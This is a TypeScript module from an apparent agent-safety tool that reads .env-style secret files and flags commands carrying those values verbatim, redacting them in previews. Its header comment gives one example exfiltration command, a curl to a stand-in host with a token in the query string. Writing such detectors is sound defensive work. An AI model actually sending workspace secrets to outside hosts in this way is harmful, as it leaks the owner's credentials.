// The values held in the workspace's own secret files (`.env`, `.env.production`, …), read at decision time through
// the injected facts, so a command or request that carries one of them verbatim is caught however the agent came to
// know it (a route Airlock missed, an earlier session, a log): `curl "https://x.example/c?k=<the RAILWAY_TOKEN value>"`.
// A value that is only a UUID or a word carries no format a detector could see; its being in `.env` is what makes
// it a secret. Values never leave this module: callers get the variable's name and file, never the value.
import type { FsFacts } from '../../facts';
import { isPlaceholder } from '../../secrets/placeholders';
import type { RuleContext } from '../types';

const MAX_FILES = 8;
const MAX_BYTES = 64 * 1024;
const MIN_LENGTH = 10;
/** `.env`, `.env.local`, `.env.production`, `.envrc`, `.dev.vars`; not the templates that hold no values. */
const ENV_FILE = /^(?:\.env(?:\.[\w.-]+)?|\.envrc|\.dev\.vars|\.secrets?(?:\.[\w.-]+)?)$/;
const TEMPLATE = /(?:example|sample|template|dist|defaults?|schema|tpl)$/i;
/** Values that are settings, not secrets, however long: paths, hosts without credentials, flags, numbers. */
const NOT_SECRET = /^(?:true|false|yes|no|on|off|null|none|development|production|staging|test|debug|info|warn|error|localhost|[\d.:]+|https?:\/\/[^@\s]*|\/[\w./-]*|\.\.?\/[\w./-]*)$/i;

export interface KnownValue {
  value: string;
  /** `RAILWAY_TOKEN in .env`: what a verdict may say. */
  label: string;
}

const cache = new WeakMap<FsFacts, Map<string, KnownValue[]>>();

function unquote(raw: string): string {
  const v = raw.trim();
  if ((v.startsWith('"') && v.endsWith('"')) || (v.startsWith("'") && v.endsWith("'"))) return v.slice(1, -1);
  return v.replace(/\s+#.*$/, '');
}

function decodeURIComponentSafe(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

function valuesIn(text: string, file: string): KnownValue[] {
  const out: KnownValue[] = [];
  for (const line of text.split('\n').slice(0, 2000)) {
    const m = /^\s*(?:export\s+)?([A-Za-z_][\w.]*)\s*=\s*(.*)$/.exec(line);
    if (!m) continue;
    const value = unquote(m[2]!);
    // The password inside a connection URL travels on its own too (`psql -W`, a pasted password)
    const url = /^[a-z][\w+.-]*:\/\/([^:/@\s]*):([^@\s]{8,})@(.*)$/i.exec(value);
    const pw = url?.[2];
    // A password that is the user or database name again (`postgres://app:app@…/app`), or one plain word, is the
    // project's name in every other command: sending it is no evidence of a secret leaving
    const weak = pw !== undefined && (pw === url![1] || url![3]!.includes(pw) || /^[a-z]+$/i.test(pw));
    if (pw !== undefined && !weak && !isPlaceholder(pw) && !/^\$\{?\w/.test(pw)) out.push({ value: decodeURIComponentSafe(pw), label: `the password in ${m[1]} in ${file}` });
    if (value.length < MIN_LENGTH || value.length > 4096 || NOT_SECRET.test(value) || isPlaceholder(value) || /\$\{?\w/.test(value)) continue;
    out.push({ value, label: `${m[1]} in ${file}` });
    if (out.length >= 200) break;
  }
  return out;
}

/** Secret values of the env files in the action's directory and the workspace roots (bounded; cached per facts). */
export function knownSecretValues(ctx: RuleContext): KnownValue[] {
  const facts = ctx.facts;
  if (!facts) return [];
  const dirs = [...new Set([ctx.startCwd, ctx.cwd, ...ctx.workspaceRoots].filter((d): d is string => d !== undefined && d.startsWith('/')))].slice(0, 4);
  let byDir = cache.get(facts);
  if (!byDir) {
    byDir = new Map();
    cache.set(facts, byDir);
  }
  const out: KnownValue[] = [];
  for (const dir of dirs) {
    let values = byDir.get(dir);
    if (values === undefined) {
      values = [];
      const listing = facts.listDir(dir);
      let files = 0;
      for (const name of listing?.names ?? []) {
        if (!ENV_FILE.test(name) || TEMPLATE.test(name) || files >= MAX_FILES) continue;
        const abs = `${dir.replace(/\/+$/, '')}/${name}`;
        const st = facts.stat(abs);
        if (st?.kind !== 'file' || st.size > MAX_BYTES) continue;
        files++;
        const text = facts.readText(abs, MAX_BYTES);
        if (text !== undefined) values.push(...valuesIn(text, name));
      }
      byDir.set(dir, values);
    }
    out.push(...values);
  }
  return out;
}

/** The first known secret value that `text` carries verbatim, as its label (never the value). */
export function carriedSecret(text: string, ctx: RuleContext): string | undefined {
  if (text.length < MIN_LENGTH) return undefined;
  // Only a word long enough and with a digit in it can be a value worth looking up: `git status`, `docker ps` and
  // paths never read the env files (a password of letters only is left to the detectors)
  if (!text.split(/[\s'"`=&?,;()<>|]+/).some((w) => w.length >= MIN_LENGTH && /\d/.test(w))) return undefined;
  for (const k of knownSecretValues(ctx)) if (text.includes(k.value)) return k.label.startsWith('the ') ? k.label : `the value of ${k.label}`;
  return undefined;
}

/** `text` with every known secret value replaced by its variable's name, for targets and previews. */
export function withoutKnownSecrets(text: string, ctx: RuleContext): string {
  let out = text;
  for (const k of knownSecretValues(ctx)) if (out.includes(k.value)) out = out.split(k.value).join(`<${k.label.replace(/^the password in /, '').split(' ')[0]}>`);
  return out;
}
